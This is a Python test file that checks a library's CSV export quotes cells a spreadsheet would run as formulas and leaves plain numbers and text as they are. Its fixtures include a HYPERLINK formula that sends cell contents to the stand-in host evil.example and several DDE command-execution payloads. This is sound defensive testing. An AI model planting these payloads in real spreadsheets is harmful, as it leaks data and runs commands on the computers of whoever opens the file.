"""CSV formula safety: a quote before exactly the text a spreadsheet would run as a formula.

OWASP's triggers are = + - @ tab and carriage return at the start of a cell. Text that starts with
+ or - but that no spreadsheet evaluates (a number, a lone dash, a phone number written with
spaces) is data and is written as it is: a number stays a number.
"""

from __future__ import annotations

import csv
import io

import pytest
from batchgrid.core.table.cells import csv_value
from batchgrid.core.table.write_flat import write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1, "click")'
DDE = "=cmd|' /C calc'!A0"

CASES = [
    # harmless: written as they are
    ("-5", "-5"),
    ("-5.5", "-5.5"),
    ("+5", "+5"),
    ("-0.25", "-0.25"),
    ("-.5", "-.5"),
    ("-1e3", "-1e3"),
    ("-12%", "-12%"),
    ("-1,000", "-1,000"),
    ("-", "-"),
    ("+", "+"),
    ("---", "---"),
    ("+44 20 7946 0958", "+44 20 7946 0958"),
    ("hello", "hello"),
    ("5-3", "5-3"),
    ("a=b", "a=b"),
    ("", ""),
    (" leading space", " leading space"),
    # evaluated by a spreadsheet: quoted
    ("=1+1", "'=1+1"),
    ("=", "'="),
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("@", "'@"),
    ("-2+3", "'-2+3"),
    ("+A1", "'+A1"),
    ("-SUM(1)", "'-SUM(1)"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    ("+1-555-123-4567", "'+1-555-123-4567"),  # arithmetic: a spreadsheet would show -5244
    ("-1 but text", "'-1 but text"),
    ("-5)", "'-5)"),
    ("--5", "'--5"),
    ("+-5", "'+-5"),
    ("-(5)", "'-(5)"),
    ("-5e", "'-5e"),
    ("\t=1+1", "'\t=1+1"),
    ("\tplain", "'\tplain"),
    ("\r=1+1", "'\r=1+1"),
    (" =1+1", "' =1+1"),
    ("  @SUM(1)", "'  @SUM(1)"),
    ("\n=1+1", "'\n=1+1"),
    ("-\t=1", "'-\t=1"),
]


@pytest.mark.parametrize("value, written", CASES)
def test_csv_value_quotes_only_what_a_spreadsheet_would_evaluate(value, written):
    assert csv_value(value) == written


def test_numbers_stay_numbers():
    assert csv_value(-5) == -5 and csv_value(-5.5) == -5.5 and csv_value(float("nan")) == ""


def test_the_written_file_round_trips_every_case(tmp_path):
    path = write_csv(["value"], [[v] for v, _ in CASES], tmp_path / "out.csv", len(CASES))
    with open(path, encoding="utf-8-sig", newline="") as f:
        back = [row[0] for row in list(csv.reader(f))[1:]]
    assert back == [w for _, w in CASES]


def test_a_header_that_looks_like_a_formula_is_quoted_too(tmp_path):
    path = write_csv(["=1+1", "-5"], [[1, 2]], tmp_path / "out.csv", 1)
    assert next(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")))) == ["'=1+1", "-5"]
